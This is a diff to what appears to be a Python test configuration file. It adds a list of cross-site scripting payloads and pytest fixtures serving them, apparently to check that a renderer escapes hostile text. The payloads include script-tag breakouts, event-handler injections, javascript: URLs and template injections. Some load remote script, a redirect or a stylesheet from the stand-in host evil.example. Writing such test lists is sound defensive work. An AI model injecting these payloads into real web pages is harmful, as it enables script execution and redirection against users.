@@ -217,3 +217,58 @@ def document() -> Document:
 @pytest.fixture(scope="session")
 def replaced() -> Callable[..., Document]:
     return dataclasses.replace
+
+
+# ways in which text has become script elsewhere; 40 of them, each also a legal file name on some system
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</svg><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<<script>alert(1)//<</script>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<img src=x onerror=alert(1)//",
+    "<img src=`x` onerror=alert(1)>",
+    '<img/src="x"/onerror=alert(1)>',
+    '" onload="alert(1)',
+    "' onmouseover='alert(1)",
+    "` onfocus=`alert(1)",
+    " onfocus=alert(1) autofocus tabindex=1 ",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg/>'/></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<!--><script>alert(1)</script>-->",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
+    "\u202e<b>\x1b]8;;x\x07\n</b>\udcff\u2028",
+)
+
+
+@pytest.fixture(scope="session")
+def payloads() -> tuple[str, ...]:
+    return PAYLOADS
+
+
+@pytest.fixture(scope="session")
+def painted() -> type[Painted]:
+    return Painted
